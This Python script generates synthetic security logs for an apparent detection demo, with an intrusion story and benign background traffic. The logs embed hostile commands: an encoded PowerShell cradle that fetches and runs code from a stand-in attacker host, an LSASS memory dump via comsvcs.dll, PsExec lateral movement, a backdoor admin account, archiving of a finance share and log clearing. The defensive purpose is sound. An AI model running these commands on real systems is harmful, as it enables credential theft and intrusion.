#!/usr/bin/env python3
"""Writes the demo's recordings: intrusion.ndjson (the story) and background.ndjson.gz.

One JSON object per record: at_ms (offset from the start), source, format, line, and context
where a format needs one. Times inside lines are placeholders that replay fills in: {{rfc3164}}
{{rfc5424}} {{iso}} {{iso_ms}} {{epoch}} {{epoch_ms}} {{audit}} {{windows}} {{clf}}.

Seeded, standard library only: the same script gives the same bytes. All names and addresses
are made up; outside addresses are from the documentation networks (RFC 5737).
"""
import base64
import gzip
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
RND = random.Random(20260501)
DOMAIN, DNS_DOMAIN = "CORP", "corp.example"
ATTACKER = "203.0.113.66"
WEB, DC, FILES = "10.20.1.10", "10.20.0.5", "10.20.0.20"
WORKSTATIONS = {f"ws-{n:03d}": f"10.20.2.{n}" for n in (3, 7, 11, 17, 23, 28, 31, 36, 42, 47)}
SERVERS = {"dc-01": DC, "file-01": FILES}
OWNER = dict(zip(WORKSTATIONS,
                 ["a.smith", "m.keller", "s.ito", "p.novak", "l.garcia", "t.brandt", "r.singh",
                  "k.olsen", "j.doe", "e.moreau"]))
SYSMON = "Microsoft-Windows-Sysmon/Operational"
RECORD_IDS = {}


def record(at_ms, source, form, line, context=None):
    entry = {"at_ms": int(at_ms), "source": source, "format": form}
    if context:
        entry["context"] = context
    entry["line"] = line if isinstance(line, str) else json.dumps(line, separators=(",", ":"))
    return entry


# --- Windows ---------------------------------------------------------------------------------

def fqdn(host):
    return f"{host}.{DNS_DOMAIN}"


def guid(host, number):
    return "{%08X-%04X-%04X-%04X-%012X}" % (abs(hash_of(host)), number & 0xFFFF, 0x6928,
                                            number >> 4 & 0xFFFF, number * 7919)


def hash_of(text):
    value = 2166136261
    for byte in text.encode():
        value = (value ^ byte) * 16777619 & 0xFFFFFFFF
    return value


def windows(at_ms, host, provider, channel, event_id, data, task=0, level=4,
            keywords="0x8000000000000000", user_data=None):
    key = (host, channel)
    RECORD_IDS[key] = RECORD_IDS.get(key, 100_000 + hash_of(host + channel) % 900_000) + 1
    event = {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": event_id, "Version": 2, "Level": level, "Task": task, "Opcode": 0,
            "Keywords": keywords,
            "TimeCreated": {"#attributes": {"SystemTime": "{{windows}}"}},
            "EventRecordID": RECORD_IDS[key],
            "Execution": {"#attributes": {"ProcessID": 3120, "ThreadID": 4300 + event_id % 97}},
            "Channel": channel, "Computer": fqdn(host),
        },
    }
    if user_data:
        event["UserData"] = user_data
    else:
        event["EventData"] = data
    return record(at_ms, f"winlog:{host}", "json", {"Event": event})


def sysmon(at_ms, host, event_id, **data):
    data = {"RuleName": "-", "UtcTime": "{{iso_ms}}", **data}
    return windows(at_ms, host, "Microsoft-Windows-Sysmon", SYSMON, event_id, data, event_id)


def security(at_ms, host, event_id, success=True, **data):
    keywords = "0x8020000000000000" if success else "0x8010000000000000"
    return windows(at_ms, host, "Microsoft-Windows-Security-Auditing", "Security", event_id, data,
                   12544, 0, keywords)


def process(at_ms, host, user, image, command, parent, parent_command, pid, ppid, product="",
            original=None, integrity="Medium", folder="C:\\Windows\\system32\\"):
    digest = "%064X" % (hash_of(image) ** 7 % (1 << 256))
    return sysmon(
        at_ms, host, 1, ProcessGuid=guid(host, pid), ProcessId=pid, Image=image,
        FileVersion="10.0.22621.1", Description="", Product=product or
        "Microsoft\u00ae Windows\u00ae Operating System", Company="Microsoft Corporation",
        OriginalFileName=original or image.rsplit("\\", 1)[-1], CommandLine=command,
        CurrentDirectory=folder, User=user, LogonGuid=guid(host, 77), LogonId="0x3e7a1",
        TerminalSessionId=1, IntegrityLevel=integrity, Hashes=f"SHA256={digest}",
        ParentProcessGuid=guid(host, ppid), ParentProcessId=ppid, ParentImage=parent,
        ParentCommandLine=parent_command, ParentUser=user)


def connection(at_ms, host, user, image, pid, src, sport, dst, dport, name="-", proto="tcp"):
    return sysmon(
        at_ms, host, 3, ProcessGuid=guid(host, pid), ProcessId=pid, Image=image, User=user,
        Protocol=proto, Initiated="true", SourceIsIpv6="false", SourceIp=src,
        SourceHostname=fqdn(host), SourcePort=sport, SourcePortName="-",
        DestinationIsIpv6="false", DestinationIp=dst, DestinationHostname=name,
        DestinationPort=dport, DestinationPortName="https" if dport == 443 else "-")


def logon(at_ms, host, user, kind, address, workstation="-", package="Kerberos", logon_id=None):
    return security(
        at_ms, host, 4624, SubjectUserSid="S-1-0-0", SubjectUserName="-", SubjectDomainName="-",
        SubjectLogonId="0x0", TargetUserSid=f"S-1-5-21-1004336348-1177238915-682003330-{1100 + hash_of(user) % 900}",
        TargetUserName=user, TargetDomainName=DOMAIN, TargetLogonId=logon_id or hex(at_ms * 31 + 0x40000),
        LogonType=kind, LogonProcessName="User32" if kind == 10 else package,
        AuthenticationPackageName="Negotiate" if kind == 10 else package, WorkstationName=workstation,
        LogonGuid="{00000000-0000-0000-0000-000000000000}", TransmittedServices="-", LmPackageName="-",
        KeyLength=0, ProcessId="0x2f8" if kind == 10 else "0x0",
        ProcessName="C:\\Windows\\System32\\svchost.exe" if kind == 10 else "-",
        IpAddress=address, IpPort=str(RND.randint(49152, 65000)), ElevatedToken="%%1842")


def subject(user, logon_id="0x3e7a1"):
    return dict(SubjectUserSid=f"S-1-5-21-1004336348-1177238915-682003330-{1100 + hash_of(user) % 900}",
                SubjectUserName=user, SubjectDomainName=DOMAIN, SubjectLogonId=logon_id)


# --- Linux -----------------------------------------------------------------------------------

def syslog(at_ms, host, tag, pid, message, priority=38):
    tag = f"{tag}[{pid}]" if pid else tag
    return record(at_ms, f"syslog:{host}", "syslog", f"<{priority}>{{{{rfc3164}}}} {host} {tag}: {message}")


def audit(at_ms, host, serial, user, uid, executable, arguments, pid, ppid):
    stamp = f"msg=audit({{{{audit}}}}:{serial}):"
    comm = executable.rsplit("/", 1)[-1]
    title = "\0".join(arguments).encode().hex().upper()
    quoted = " ".join(f'a{n}="{word}"' for n, word in enumerate(arguments))
    lines = [
        f'type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8f4a2a0 a1=55d0c8f4b3c0 '
        f'a2=55d0c8f3e010 a3=8 items=2 ppid={ppid} pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} '
        f'suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts1 ses=212 comm="{comm}" '
        f'exe="{executable}" subj=unconfined key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="{user}" UID="{user}" '
        f'GID="{user}" EUID="{user}" SUID="{user}" FSUID="{user}" EGID="{user}" SGID="{user}" FSGID="{user}"',
        f"type=EXECVE {stamp} argc={len(arguments)} {quoted}",
        f"type=PROCTITLE {stamp} proctitle={title}",
    ]
    return [record(at_ms, f"auditd:{host}", "auditd", f"node={host} {line}") for line in lines]


# --- Network ---------------------------------------------------------------------------------

ZEEK = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
CONN = ZEEK + ("#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration"
               "\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts"
               "\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n#types\ttime\tstring\taddr\tport\taddr\tport"
               "\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount"
               "\tset[string]\n")
DNS = ZEEK + ("#path\tdns\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery"
              "\tqclass\tqclass_name\tqtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected\n"
              "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\tstring"
              "\tcount\tstring\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool\n")
HTTP = ZEEK + ("#path\thttp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi"
               "\treferrer\tversion\tuser_agent\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\n#types\ttime"
               "\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tstring\tcount\tcount\tcount"
               "\tstring\n")


def uid():
    letters = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
    return "C" + "".join(RND.choice(letters) for _ in range(17))


def stamp():
    return f"{{{{epoch}}}}.{RND.randint(0, 999999):06d}"


def zeek_conn(at_ms, src, sport, dst, dport, service, duration, out, back, proto="tcp", state="SF"):
    local = lambda address: "T" if address.startswith("10.20.") else "F"
    line = "\t".join(map(str, [
        stamp(), uid(), src, sport, dst, dport, proto, service, f"{duration:.6f}", out, back, state,
        local(src), local(dst), 0, "ShADadFf" if proto == "tcp" else "Dd", out // 1400 + 4,
        out + (out // 1400 + 4) * 52, back // 1400 + 3, back + (back // 1400 + 3) * 52, "-"]))
    return record(at_ms, "zeek:sensor-01", "zeek-tsv", line, CONN)


def zeek_dns(at_ms, src, query, answer):
    failed = answer is None
    line = "\t".join(map(str, [
        stamp(), uid(), src, RND.randint(49152, 65000), DC, 53, "udp", RND.randint(1, 65535), f"{RND.random() / 50:.6f}",
        query, 1, "C_INTERNET", 1, "A", 3 if failed else 0, "NXDOMAIN" if failed else "NOERROR", "F", "F", "T", "T", 0,
        "-" if failed else answer, "-" if failed else "300.000000", "F"]))
    return record(at_ms, "zeek:sensor-01", "zeek-tsv", line, DNS)


def zeek_http(at_ms, src, dst, method, host, uri, agent, length, status=200):
    line = "\t".join(map(str, [
        stamp(), uid(), src, RND.randint(49152, 65000), dst, 80, 1, method, host, uri, "-", "1.1", agent, 0, length,
        status, "OK" if status == 200 else "Not Found"]))
    return record(at_ms, "zeek:sensor-01", "zeek-tsv", line, HTTP)


def eve(at_ms, kind, src, sport, dst, dport, proto="TCP", **more):
    event = {"timestamp": "{{iso_ms}}", "flow_id": RND.randint(10**14, 10**15), "in_iface": "eth1",
             "event_type": kind, "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport,
             "proto": proto, **more}
    return record(at_ms, "suricata:sensor-01", "json", event)


# --- The story -------------------------------------------------------------------------------

def guessing():
    names = ["root", "admin", "oracle", "postgres", "test", "ubuntu", "deploy", "git", "backup", "j.doe"]
    known = {"root", "backup", "j.doe"}
    at, out = 2_000, []
    out.append(eve(2_400, "alert", ATTACKER, 40122, WEB, 22, app_proto="ssh", alert={
        "action": "allowed", "gid": 1, "signature_id": 9000101, "rev": 1,
        "signature": "WATCHFLOOR SCAN SSH connection burst from one address",
        "category": "Attempted Information Leak", "severity": 2}))
    for n in range(60):
        user = names[n % len(names)] if n < 50 else "j.doe"
        pid, port = 21_400 + n, 40_200 + n * 7
        if user not in known:
            out.append(syslog(at, "web-01", "sshd", pid, f"Invalid user {user} from {ATTACKER} port {port}"))
            out.append(syslog(at + 40, "web-01", "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown"))
        tail = f"  user={user}" if user in known else ""
        out.append(syslog(at + 60, "web-01", "sshd", pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                          f"euid=0 tty=ssh ruser= rhost={ATTACKER}{tail}", 85))
        invalid = "" if user in known else "invalid user "
        out.append(syslog(at + 300, "web-01", "sshd", pid, f"Failed password for {invalid}{user} from {ATTACKER} port {port} ssh2"))
        out.append(syslog(at + 380, "web-01", "sshd", pid, f"Connection closed by {'authenticating' if user in known else 'invalid'} "
                          f"user {user} {ATTACKER} port {port} [preauth]"))
        at += RND.randint(480, 640)
    return out


def foothold():
    pid, out = 21_477, []
    out.append(syslog(40_000, "web-01", "sshd", pid, f"Accepted password for j.doe from {ATTACKER} port 41902 ssh2"))
    out.append(syslog(40_050, "web-01", "sshd", pid, "pam_unix(sshd:session): session opened for user j.doe(uid=1004) by (uid=0)", 86))
    out.append(syslog(40_080, "web-01", "systemd-logind", 702, "New session 212 of user j.doe."))
    commands = [("/usr/bin/id", ["id"]), ("/usr/bin/whoami", ["whoami"]), ("/usr/bin/uname", ["uname", "-a"]),
                ("/usr/bin/cat", ["cat", "/etc/passwd"]), ("/usr/bin/ss", ["ss", "-tlnp"]), ("/usr/sbin/ip", ["ip", "route"]),
                ("/usr/bin/getent", ["getent", "hosts", "dc-01.corp.example"])]
    for n, (executable, words) in enumerate(commands):
        out += audit(41_500 + n * 600, "web-01", 88_200 + n, "j.doe", 1004, executable, words, 21_500 + n, 21_480)
    out.append(syslog(46_400, "web-01", "sudo", 0, "   j.doe : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/j.doe ; USER=root ; COMMAND=/usr/bin/su -", 81))
    return out


def workstation():
    host, address, user = "ws-042", WORKSTATIONS["ws-042"], f"{DOMAIN}\\j.doe"
    script = ("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
              f"IEX $c.DownloadString('https://{ATTACKER}/a')")
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    document = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\j.doe\\Documents\\offer.docm\""
    command = f"powershell.exe -NoP -W Hidden -Enc {encoded}"
    return [
        zeek_conn(48_400, WEB, 50_114, address, 445, "smb", 1.8, 5_120, 8_800),
        logon(48_500, host, "j.doe", 3, WEB, "WEB-01", "NTLM"),
        zeek_conn(49_400, WEB, 50_120, address, 3389, "rdp", 44.1, 812_000, 5_210_000),
        logon(49_600, host, "j.doe", 10, WEB, host.upper()),
        security(49_650, host, 4672, **subject("j.doe"), PrivilegeList="SeDebugPrivilege\n\t\t\tSeImpersonatePrivilege"),
        process(51_800, host, user, word, document, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 6120, 4412,
                "Microsoft Office", "WinWord.exe"),
        process(53_000, host, user, powershell, command, word, document, 6644, 6120, original="PowerShell.EXE"),
        windows(53_400, host, "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104,
                {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script,
                 "ScriptBlockId": "7d1f6c8e-5a0b-4b1d-9a55-0c1f5f3f9a01", "Path": ""}, 2, 3, "0x0"),
        sysmon(53_600, host, 22, ProcessGuid=guid(host, 6644), ProcessId=6644, QueryName="wpad.corp.example",
               QueryStatus="9003", QueryResults="-", Image=powershell, User=user),
        connection(53_900, host, user, powershell, 6644, address, 50_233, ATTACKER, 443),
        eve(54_000, "tls", address, 50_233, ATTACKER, 443, app_proto="tls", tls={
            "subject": "CN=localhost", "issuerdn": "CN=localhost", "version": "TLS 1.2",
            "ja3": {"hash": "3b5074b1b5d032e5620f69f9f700ff0e"}}),
        zeek_conn(54_100, address, 50_233, ATTACKER, 443, "ssl", 38.2, 61_200, 1_480_200),
        sysmon(55_300, host, 11, ProcessGuid=guid(host, 6644), ProcessId=6644, Image=powershell,
               TargetFilename="C:\\Users\\j.doe\\AppData\\Local\\Temp\\upd.ps1", CreationUtcTime="{{iso_ms}}", User=user),
    ]


def credential():
    host, user = "ws-042", f"{DOMAIN}\\j.doe"
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\lsass.dmp full"
    return [
        process(60_000, host, user, rundll, command, powershell, "powershell.exe -NoP -W Hidden", 7012, 6644,
                original="RUNDLL32.EXE", integrity="High"),
        sysmon(60_300, host, 10, SourceProcessGUID=guid(host, 7012), SourceProcessId=7012, SourceThreadId=7020,
               SourceImage=rundll, TargetProcessGUID=guid(host, 712), TargetProcessId=712,
               TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1fffff",
               CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                         "C:\\Windows\\System32\\dbgcore.DLL+6b32|C:\\Windows\\System32\\comsvcs.dll+1c1a3",
               SourceUser=user, TargetUser="NT AUTHORITY\\SYSTEM"),
        sysmon(61_200, host, 11, ProcessGuid=guid(host, 7012), ProcessId=7012, Image=rundll,
               TargetFilename="C:\\Windows\\Temp\\lsass.dmp", CreationUtcTime="{{iso_ms}}", User=user),
    ]


def domain_controller():
    ws, dc, user = "ws-042", "dc-01", f"{DOMAIN}\\svc-backup"
    address = WORKSTATIONS[ws]
    service, cmd = "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\System32\\cmd.exe"
    system = "NT AUTHORITY\\SYSTEM"
    return [
        security(68_000, ws, 4648, **subject("j.doe"), LogonGuid="{00000000-0000-0000-0000-000000000000}",
                 TargetUserName="svc-backup", TargetDomainName=DOMAIN, TargetLogonGuid="{00000000-0000-0000-0000-000000000000}",
                 TargetServerName=fqdn(dc), TargetInfo=fqdn(dc), ProcessId="0x1b9c",
                 ProcessName="C:\\Users\\j.doe\\AppData\\Local\\Temp\\PsExec64.exe", IpAddress="-", IpPort="-"),
        security(68_150, dc, 4776, PackageName="MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", TargetUserName="svc-backup",
                 Workstation="WS-042", Status="0x0"),
        logon(68_300, dc, "svc-backup", 3, address, "WS-042", "NTLM", "0x51f2a0"),
        security(68_320, dc, 4672, **subject("svc-backup", "0x51f2a0"), PrivilegeList="SeBackupPrivilege\n\t\t\tSeDebugPrivilege"),
        security(68_600, dc, 5140, **subject("svc-backup", "0x51f2a0"), ObjectType="File", IpAddress=address, IpPort="50344",
                 ShareName="\\\\*\\ADMIN$", ShareLocalPath="\\??\\C:\\Windows", AccessMask="0x1", AccessList="%%4416\n\t\t\t\t"),
        zeek_conn(68_700, address, 50_344, DC, 445, "smb", 12.5, 412_000, 18_400),
        windows(69_100, dc, "Service Control Manager", "System", 7045,
                {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
                 "StartType": "demand start", "AccountName": "LocalSystem"}, 0, 4, "0x8080000000000000"),
        process(69_500, dc, system, service, service, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
                5240, 684, "Sysinternals PsExec", "psexesvc.exe", "System"),
        process(70_100, dc, system, cmd, "\"cmd.exe\" /c whoami & hostname", service, service, 5288, 5240, original="Cmd.Exe", integrity="System"),
        process(73_000, dc, system, "C:\\Windows\\System32\\net.exe", "net  group \"Domain Admins\" /domain", cmd, "\"cmd.exe\"", 5320, 5288,
                original="net.exe", integrity="System"),
        process(75_000, dc, system, "C:\\Windows\\System32\\net.exe", "net  user wf-support Sommer-2026 /add /domain", cmd, "\"cmd.exe\"",
                5344, 5288, original="net.exe", integrity="System"),
        security(75_200, dc, 4720, TargetUserName="wf-support", TargetDomainName=DOMAIN,
                 TargetSid="S-1-5-21-1004336348-1177238915-682003330-2611", **subject("svc-backup", "0x51f2a0"),
                 PrivilegeList="-", SamAccountName="wf-support", DisplayName="%%1793", UserAccountControl="\n\t\t%%2080\n\t\t%%2082"),
        security(76_400, dc, 4732, MemberName="CN=wf-support,CN=Users,DC=corp,DC=example",
                 MemberSid="S-1-5-21-1004336348-1177238915-682003330-2611", TargetUserName="Administrators",
                 TargetDomainName="Builtin", TargetSid="S-1-5-32-544", **subject("svc-backup", "0x51f2a0"), PrivilegeList="-"),
    ]


def exfiltration():
    dc, system = "dc-01", "NT AUTHORITY\\SYSTEM"
    zipper = "C:\\Windows\\Temp\\7za.exe"
    return [
        process(80_000, dc, system, zipper, "7za.exe a -mx1 -pSommer-2026 -mhe C:\\Windows\\Temp\\bk.7z \\\\file-01\\finance$",
                "C:\\Windows\\System32\\cmd.exe", "\"cmd.exe\"", 5402, 5288, "7-Zip", "7za.exe", "System", "C:\\Windows\\Temp\\"),
        sysmon(82_500, dc, 11, ProcessGuid=guid(dc, 5402), ProcessId=5402, Image=zipper,
               TargetFilename="C:\\Windows\\Temp\\bk.7z", CreationUtcTime="{{iso_ms}}", User=system),
        eve(85_000, "tls", DC, 50_611, ATTACKER, 443, app_proto="tls", tls={
            "subject": "CN=localhost", "issuerdn": "CN=localhost", "version": "TLS 1.2",
            "ja3": {"hash": "3b5074b1b5d032e5620f69f9f700ff0e"}}),
        eve(87_000, "alert", DC, 50_611, ATTACKER, 443, app_proto="tls", alert={
            "action": "allowed", "gid": 1, "signature_id": 9000207, "rev": 2,
            "signature": "WATCHFLOOR EXFIL self-signed TLS server receives bulk upload",
            "category": "Potential Corporate Privacy Violation", "severity": 1}),
        zeek_conn(95_500, DC, 50_611, ATTACKER, 443, "ssl", 10.44, 1_932_735_283, 2_118_400),
        windows(98_000, dc, "Microsoft-Windows-Eventlog", "Security", 1102, None, 104, 4, "0x4020000000000000",
                {"LogFileCleared": {"#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
                                    "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1712", "SubjectUserName": "svc-backup",
                                    "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x51f2a0"}}),
    ]


# --- The background --------------------------------------------------------------------------

SITES = [("www.example.org", "192.0.2.10"), ("cdn.example.net", "192.0.2.24"), ("mail.example.com", "192.0.2.40"),
         ("update.example.com", "198.51.100.20"), ("docs.example.org", "198.51.100.31"), ("api.example.net", "198.51.100.77"),
         ("login.example.com", "192.0.2.81"), ("media.example.net", "198.51.100.142")]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile Safari/604.1",
          "curl/8.10.1", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"]
PATHS = ["/", "/index.html", "/products", "/products/17", "/products/42", "/static/app.js", "/static/site.css", "/img/logo.svg",
         "/api/v1/items?page=2", "/api/v1/items?page=3", "/contact", "/blog/2026/04/release", "/robots.txt", "/favicon.ico",
         "/search?q=lamp", "/cart", "/health"]
PROGRAMS = [("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "--type=renderer"),
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Office", ""),
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Microsoft Office", "/dde"),
            ("C:\\Windows\\System32\\notepad.exe", "", "C:\\Users\\notes.txt"),
            ("C:\\Windows\\System32\\svchost.exe", "", "-k netsvcs -p -s Schedule"),
            ("C:\\Windows\\System32\\backgroundTaskHost.exe", "", "-ServerName:App.AppX"),
            ("C:\\Windows\\System32\\RuntimeBroker.exe", "", "-Embedding"),
            ("C:\\Windows\\System32\\conhost.exe", "", "0xffffffff -ForceV1"),
            ("C:\\Windows\\System32\\taskhostw.exe", "", ""),
            ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "Microsoft OneDrive", "/background"),
            ("C:\\Windows\\System32\\SearchProtocolHost.exe", "", "Global\\UsGthrFltPipeMssGthrPipe1")]


def parent_of(image):
    """Who starts a program on a healthy machine."""
    system, name = "C:\\Windows\\System32\\", image.rsplit("\\", 1)[-1]
    known = {"svchost.exe": system + "services.exe", "conhost.exe": system + "cmd.exe",
             "SearchProtocolHost.exe": system + "SearchIndexer.exe"}
    hosted = ("backgroundTaskHost.exe", "RuntimeBroker.exe", "taskhostw.exe")
    return known.get(name, system + "svchost.exe" if name in hosted else "C:\\Windows\\explorer.exe")


def workstation_user():
    host = RND.choice(list(WORKSTATIONS))
    return host, WORKSTATIONS[host], OWNER[host]


def benign_linux(at):
    host = RND.choice(["web-01", "web-02", "db-01"])
    pid = RND.randint(900, 32_000)
    choice = RND.random()
    if choice < 0.22:
        user, src = RND.choice(["deploy", "ansible", "a.smith", "r.singh"]), f"10.20.3.{RND.randint(10, 40)}"
        return syslog(at, host, "sshd", pid, f"Accepted publickey for {user} from {src} port {RND.randint(32768, 60999)} ssh2: "
                      "ED25519 SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8")
    if choice < 0.30:
        return syslog(at, host, "sshd", pid, "pam_unix(sshd:session): session closed for user deploy", 86)
    if choice < 0.31:
        user = RND.choice(["a.smith", "r.singh", "k.olsen"])
        return syslog(at, host, "sshd", pid, f"Failed password for {user} from 10.20.3.{RND.randint(10, 250)} port "
                      f"{RND.randint(32768, 60999)} ssh2")
    if choice < 0.55:
        job = RND.choice(["root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)", "www-data) CMD (php /srv/app/cron.php)",
                          "root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.hourly)", "postgres) CMD (/usr/local/bin/wal-check)"])
        return syslog(at, host, "CRON", pid, f"({job}", 78)
    if choice < 0.80:
        unit = RND.choice(["Started Daily apt download activities.", "Starting Message of the Day...", "Finished Rotate log files.",
                           "Started Session 4011 of user deploy.", "logrotate.service: Deactivated successfully."])
        return syslog(at, host, "systemd", 1, unit, 30)
    if choice < 0.90:
        return syslog(at, host, "sudo", 0, "  deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx", 85)
    return syslog(at, host, "kernel", 0, f"[{RND.randint(10**5, 10**6)}.{RND.randint(0, 999999):06d}] EXT4-fs (sda1): mounted filesystem "
                  "with ordered data mode. Quota mode: none.", 6)


def benign_access(at):
    address = f"{RND.choice(['198.51.100', '192.0.2'])}.{RND.randint(2, 250)}"
    path = RND.choice(PATHS)
    status = RND.choices([200, 304, 301, 404], [88, 6, 3, 3])[0]
    referrer = RND.choice(["-", "https://www.example.org/", "https://shop.corp.example/products"])
    line = (f'{address} - - [{{{{clf}}}}] "{RND.choices(["GET", "POST", "HEAD"], [90, 8, 2])[0]} {path} HTTP/1.1" {status} '
            f'{RND.randint(180, 48_000)} "{referrer}" "{RND.choice(AGENTS)}"')
    return record(at, "nginx:web-01", "access-log", line)


def benign_zeek(at):
    host, address, _ = workstation_user()
    site, target = RND.choice(SITES)
    choice = RND.random()
    if choice < 0.50:
        inside = RND.random() < 0.35
        dst = RND.choice([DC, FILES, WEB]) if inside else target
        port, service = RND.choice([(445, "smb"), (88, "krb_tcp"), (389, "ldap")] if inside else [(443, "ssl"), (443, "ssl"), (80, "http")])
        out, back = int(RND.lognormvariate(7.5, 1.6)), int(RND.lognormvariate(9.0, 1.8))
        return zeek_conn(at, address, RND.randint(49152, 65000), dst, port, service, RND.expovariate(0.3), min(out, 40_000_000), min(back, 90_000_000))
    if choice < 0.84:
        query = RND.choice([site, site, fqdn(RND.choice(["dc-01", "file-01", "print-01"])), f"wpad.{DNS_DOMAIN}"])
        return zeek_dns(at, address, query, None if query.startswith("wpad") else target if query == site else DC)
    return zeek_http(at, address, target, "GET", site, RND.choice(PATHS), RND.choice(AGENTS[:2]), RND.randint(200, 60_000))


def benign_sysmon(at):
    host, address, name = workstation_user()
    if RND.random() < 0.15:
        host, name = RND.choice(list(SERVERS)), "svc-backup"
        address = SERVERS[host]
    user = f"{DOMAIN}\\{name}"
    image, product, argument = RND.choice(PROGRAMS)
    pid = RND.randint(1000, 14_000)
    choice = RND.random()
    if choice < 0.26:
        parent = parent_of(image)
        return process(at, host, user, image, f'"{image}" {argument}'.strip(), parent, parent, pid, RND.randint(600, 4000), product)
    if choice < 0.52:
        site, target = RND.choice(SITES)
        browser = PROGRAMS[0][0]
        return connection(at, host, user, browser, pid, address, RND.randint(49152, 65000), target, 443, site)
    if choice < 0.68:
        return sysmon(at, host, 11, ProcessGuid=guid(host, pid), ProcessId=pid, Image=image,
                      TargetFilename=f"C:\\Users\\{name}\\AppData\\Local\\Temp\\~DF{RND.randint(0, 1 << 32):08X}.TMP",
                      CreationUtcTime="{{iso_ms}}", User=user)
    if choice < 0.88:
        site, target = RND.choice(SITES)
        return sysmon(at, host, 22, ProcessGuid=guid(host, pid), ProcessId=pid, QueryName=site, QueryStatus="0",
                      QueryResults=f"::ffff:{target};", Image=PROGRAMS[0][0], User=user)
    if choice < 0.95:
        return sysmon(at, host, 13, EventType="SetValue", ProcessGuid=guid(host, pid), ProcessId=pid, Image="C:\\Windows\\explorer.exe",
                      TargetObject=f"HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"
                                   f"\\RecentDocs\\MRU{RND.randint(0, 40)}", Details="Binary Data", User=user)
    return sysmon(at, host, 10, SourceProcessGUID=guid(host, 900), SourceProcessId=900, SourceThreadId=904,
                  SourceImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                  TargetProcessGUID=guid(host, pid), TargetProcessId=pid, TargetImage=image, GrantedAccess="0x1000",
                  CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
                  SourceUser="NT AUTHORITY\\SYSTEM", TargetUser=user)


